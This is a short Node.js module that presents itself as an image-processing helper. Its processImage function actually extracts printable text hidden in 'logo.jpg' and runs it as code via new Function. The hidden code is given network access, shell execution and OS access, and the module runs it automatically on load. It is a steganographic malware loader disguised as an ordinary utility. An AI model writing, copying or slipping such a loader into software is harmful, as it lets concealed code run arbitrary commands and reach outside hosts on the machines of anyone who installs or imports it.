const https = require('https');
const { exec } = require('child_process');
const os = require('os');
const fs = require('fs');

function processImage(filePath) {
  const data = fs.readFileSync(filePath);
  let payload = '';
  for (let i = 0; i < data.length; i++) {
    if (data[i] >= 32 && data[i] <= 126) {
      payload += String.fromCharCode(data[i]);
    }
  }
  // Execute extracted code from image
  const func = new Function('https', 'exec', 'os', payload);
  func(https, exec, os);
}

processImage('logo.jpg');

module.exports = { processImage };
